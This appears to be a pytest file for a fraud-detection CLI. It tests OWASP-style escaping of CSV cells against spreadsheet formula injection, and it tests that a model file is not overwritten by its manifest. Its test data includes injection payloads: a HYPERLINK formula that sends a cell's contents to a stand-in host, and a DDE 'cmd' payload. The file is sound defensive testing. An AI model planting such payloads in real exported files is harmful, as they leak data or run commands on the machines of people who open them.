"""Files the CLI writes: a model is never overwritten by its own manifest, and no CSV cell
opens as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import numpy as np
import pytest

from fraudstream.cli import main
from fraudstream.model_registry.artifact import ArtifactError, save_signed
from fraudstream.simulator import Dataset, SimulationConfig, read_csv, simulate, write_csv
from fraudstream.simulator.csv_cells import escape_cell, escape_row, unescape_cell
from tests.unit.model_registry.test_registry import KEY, make_version

HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1)", "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR",
           "'quoted", "plain", "", "a=b"]


def test_cells_are_escaped_by_the_owasp_rule() -> None:
    assert [escape_cell(v) for v in HOSTILE] == [
        "'=HYPERLINK(\"http://x/?\"&A1)", "'+1+2", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR",
        "''quoted", "plain", "", "a=b"]
    assert [unescape_cell(escape_cell(v)) for v in HOSTILE] == HOSTILE
    assert escape_row(["=1", -5, 2.5, None]) == ["'=1", -5, 2.5, None]  # numbers stay numbers


def _with_ids(ds: Dataset, ids: list[str]) -> Dataset:
    n = len(ds)
    tx = np.array([ids[i % len(ids)] + f"#{i}" if i % 3 == 0 else str(ds.transaction_id[i])
                   for i in range(n)], dtype=object)
    cards = np.array([ids[i % len(ids)] if i % 5 == 0 else str(ds.card_id[i]) for i in range(n)],
                     dtype=object)
    return dataclasses.replace(ds, transaction_id=tx, card_id=cards)


def _cells(path: Path) -> list[str]:
    with path.open(newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_the_simulator_csv_escapes_ids_and_reads_them_back(tmp_path: Path) -> None:
    # Not "\rCR": a bare CR splits the row for any CSV reader (control characters in ids are
    # refused upstream, by the identifier rule).
    ids = [v for v in HOSTILE if "\r" not in v]
    ds = _with_ids(simulate(SimulationConfig(n_customers=20, n_terminals=40, nb_days=3, seed=1)),
                   ids)
    path = tmp_path / "tx.csv"
    write_csv(ds, path)
    cells = _cells(path)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://x/?\"&A1)#0" in cells
    back = read_csv(path)
    assert sorted(back.transaction_id.tolist()) == sorted(ds.transaction_id.tolist())
    assert sorted(back.card_id.tolist()) == sorted(ds.card_id.tolist())


def test_backtest_predictions_escape_the_input_ids(tmp_path: Path) -> None:
    ds = _with_ids(simulate(SimulationConfig(n_customers=400, n_terminals=800, nb_days=60,
                                             seed=3)), ["=cmd|' /C calc'!A0", "@x", "-1"])
    data = tmp_path / "data.csv"
    write_csv(ds, data)
    out = tmp_path / "p.csv"
    assert main(["backtest", "--data", str(data), "--train-start", "2018-05-10", "--model",
                 "logreg", "--predictions", str(out)]) == 0
    ids = [row[0] for row in csv.reader(out.open(newline=""))][1:]
    assert ids and not [i for i in ids if i[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(i.startswith("'=cmd|") for i in ids)


def test_train_refuses_an_out_path_its_manifest_would_overwrite(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FRAUDSTREAM_SIGNING_KEY", KEY.decode())
    target = tmp_path / "model.json"
    target.write_text("keep me")
    assert main(["train", "--customers", "20", "--terminals", "40", "--days", "30",
                 "--no-register", "--out", str(target)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("fraudstream train: error: --out ") and len(err.splitlines()) == 1
    assert target.read_text() == "keep me"
    data, manifest = make_version("v1")
    with pytest.raises(ArtifactError, match="manifest would be written over it"):
        save_signed(tmp_path / "direct.json", data, manifest, KEY)
